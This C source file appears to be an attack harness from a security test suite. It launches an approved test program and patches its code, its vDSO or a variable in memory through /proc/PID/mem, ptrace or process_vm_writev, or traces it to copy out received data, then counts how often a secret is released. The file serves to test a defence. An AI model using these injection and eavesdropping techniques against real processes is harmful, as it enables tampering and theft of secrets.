/*
 * Starts an approved program (discreet.c), changes it in memory before it connects, and lets it go on.
 *
 *   change HOW SOCKET REQUEST VICTIM [COUNT]
 *
 * HOW: trace     stays attached and reads what the program receives
 *      mem       writes the code through /proc/PID/mem
 *      detach    attaches, writes the code, and has left before the program connects
 *      writev    process_vm_writev into a page of code that the program itself made writable
 *      vdso      writes the kernel's code in [vdso] through /proc/PID/mem
 *      data      writes a variable through /proc/PID/mem
 *      pageout   as mem; then says so and waits until somebody has swapped the page out
 *      late      as mem, but once the program was looked at
 */
#include "attack.h"
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

static char **arguments;
static int *granted;

/* Finds a mark in the mappings with these permissions whose name holds a text. */
static unsigned long find(pid_t pid, const char *mark, const char *permissions, const char *name)
{
    char path[64], line[4352];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY | O_CLOEXEC);
    if (!maps || mem < 0)
        fail(path);
    unsigned long from, to, found = 0;
    char has[8];
    while (!found && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx %7s", &from, &to, has) != 3 || strncmp(has, permissions, 3) != 0 ||
            !strstr(line, name))
            continue;
        char *bytes = malloc(to - from);
        if (pread(mem, bytes, to - from, (off_t)from) == (ssize_t)(to - from)) {
            char *at = memmem(bytes, to - from, mark, strlen(mark));
            found = at ? from + (unsigned long)(at - bytes) : 0;
        }
        free(bytes);
    }
    fclose(maps);
    close(mem);
    if (!found)
        fail(mark);
    return found;
}

static void put(pid_t pid, unsigned long at, const void *bytes, size_t length)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR | O_CLOEXEC);
    if (mem < 0 || pwrite(mem, bytes, length, (off_t)at) != (ssize_t)length)
        fail(path);
    close(mem);
}

static const char showing[8] = "\xb8\x01\x00\x00\x00\xc3\x90\x90"; /* mov $1, %eax; ret */

/* The whole of [vdso] becomes: mov $variable, %rax; movl $1, (%rax); xor %eax, %eax; ret. */
static void put_vdso(pid_t pid)
{
    unsigned char code[] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xc7, 0x00, 1, 0, 0, 0, 0x31, 0xc0, 0xc3};
    unsigned long variable = find(pid, "SETTING", "rw-", "/") + 8;
    unsigned long base = find(pid, "\x7f" "ELF", "r-x", "[vdso]");
    unsigned long name = find(pid, "__vdso_clock_gettime", "r-x", "[vdso]");
    memcpy(code + 2, &variable, 8);
    char image[8192];
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = pread(mem, image, 4096, (off_t)base);
    close(mem);
    if (length < 4096)
        fail("[vdso]");
    /* Its symbols lie in the first page: value at 8, name at 0 of 24 bytes each. */
    unsigned long strings = 0;
    for (unsigned long at = name - base; at > 0 && !strings; at--)
        if (image[at - 1] == 0 && image[at] == 0)
            strings = at;
    for (unsigned long at = 0; at + 24 <= 4096; at += 8) {
        unsigned index;
        unsigned long value;
        memcpy(&index, image + at, 4);
        memcpy(&value, image + at + 8, 8);
        if (image[at + 4] == 0x12 && value > 0 && value < 8192 && index < 4096 && strings + index < 4096 &&
            strcmp(image + strings + index, "__vdso_clock_gettime") == 0) {
            put(pid, base + value, code, sizeof code);
            return;
        }
    }
    errno = ENOENT;
    fail("__vdso_clock_gettime");
}

static void attached(pid_t pid)
{
    int status;
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0 || waitpid(pid, &status, 0) != pid)
        fail("PTRACE_ATTACH");
}

static void put_detached(pid_t pid)
{
    attached(pid);
    long word;
    memcpy(&word, showing, sizeof word);
    if (ptrace(PTRACE_POKETEXT, pid, find(pid, "MAYSHOW:", "r-x", "/") + 8, word) != 0 ||
        ptrace(PTRACE_DETACH, pid, NULL, NULL) != 0)
        fail("PTRACE_POKETEXT");
}

/* Copies out what each recvfrom gave it, a byte at a time. */
static void listen_in(pid_t pid)
{
    int status;
    while (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) == 0 && waitpid(pid, &status, 0) == pid && !WIFEXITED(status)) {
        struct user_regs_struct state;
        char byte;
        if (ptrace(PTRACE_GETREGS, pid, NULL, &state) != 0 || state.orig_rax != SYS_recvfrom || (long)state.rax != 1)
            continue;
        struct iovec here = {&byte, 1}, there = {(void *)state.rsi, 1};
        if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1)
            (void)!write(1, &byte, 1);
    }
}

static void change(pid_t pid, const char *how)
{
    if (strcmp(how, "mem") == 0 || strcmp(how, "pageout") == 0 || strcmp(how, "late") == 0)
        put(pid, find(pid, "MAYSHOW:", "r-x", "/") + 8, showing, sizeof showing);
    else if (strcmp(how, "detach") == 0)
        put_detached(pid);
    else if (strcmp(how, "vdso") == 0)
        put_vdso(pid);
    else if (strcmp(how, "data") == 0)
        put(pid, find(pid, "SETTING", "rw-", "/") + 8, &(int){1}, sizeof(int));
    else if (strcmp(how, "writev") == 0) {
        struct iovec here = {(void *)showing, sizeof showing};
        struct iovec there = {(void *)(find(pid, "MAYSHOW:", "rwx", "/") + 8), sizeof showing};
        if (process_vm_writev(pid, &here, 1, &there, 1, 0) != sizeof showing)
            fail("process_vm_writev");
    } else if (strcmp(how, "trace") == 0)
        attached(pid);
}

static void attempt(void)
{
    const char *how = arguments[1];
    int in[2], out[2];
    if (pipe2(in, O_CLOEXEC) != 0 || pipe2(out, O_CLOEXEC) != 0)
        fail("pipe");
    pid_t pid = fork();
    if (pid == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        execl(arguments[4], arguments[4], arguments[2], arguments[3], NULL);
        fail("exec");
    }
    close(in[0]);
    close(out[1]);
    until_named(pid, "waiting");
    if (strcmp(how, "late") != 0)
        change(pid, how);
    if (strcmp(how, "pageout") == 0) {
        printf("%d\n", pid);
        fflush(stdout);
        (void)!read(0, &(char){0}, 1);
    }
    (void)!write(in[1], "\n", 1);
    if (strcmp(how, "late") == 0) {
        until_named(pid, "known");
        change(pid, how);
    }
    (void)!write(in[1], "\n", 1);
    close(in[1]);
    if (strcmp(how, "trace") == 0)
        listen_in(pid);
    char text[65536];
    ssize_t length = read(out[0], text, sizeof text - 1);
    text[length > 0 ? length : 0] = 0;
    *granted += strstr(text, "\"value\"") != NULL;
    (void)!write(1, text, strlen(text));
    close(out[0]);
    waitpid(pid, NULL, 0);
}

int main(int argc, char **argv)
{
    arguments = argv;
    granted = shared();
    int count = argc > 5 ? atoi(argv[5]) : 1;
    for (int i = 0; i < count; i++)
        attempt();
    if (argc > 5)
        printf("%d of %d granted\n", *granted, count);
    return 0;
}
